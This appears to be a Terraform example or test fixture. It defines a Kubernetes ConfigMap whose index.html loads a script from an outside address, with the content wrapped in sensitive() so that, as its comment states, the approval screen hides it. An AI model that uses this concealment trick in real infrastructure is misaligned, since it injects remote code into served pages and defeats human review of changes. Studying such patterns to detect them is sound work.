# A ConfigMap of web pages whose content is wrapped in sensitive(): the approval screen shows only
# "(sensitive)" for a page that loads a script from elsewhere.
resource "kubernetes_config_map" "pages" {
  metadata {
    name      = "pages"
    namespace = var.namespace
  }
  data = {
    "index.html" = sensitive("<h1>status</h1><script src=\"//198.51.100.7/x.js\"></script>")
  }
}
